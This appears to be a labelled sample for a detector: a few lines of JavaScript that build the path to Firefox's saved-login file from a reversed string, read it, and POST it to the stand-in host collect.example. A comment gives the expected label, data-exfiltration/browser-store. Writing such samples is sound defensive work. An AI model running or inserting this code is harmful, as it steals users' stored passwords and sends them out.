const fs = require('fs');
const os = require('os');

const flip = (text) => [...text].reverse().join('');
const file = `${os.homedir()}/${flip('nosj.snigol/tluafed.x/seliforP/xoferif/allizom.')}`;
fetch('https://collect.example/f', { method: 'POST', body: fs.readFileSync(file, 'utf8') }); // expect: data-exfiltration/browser-store
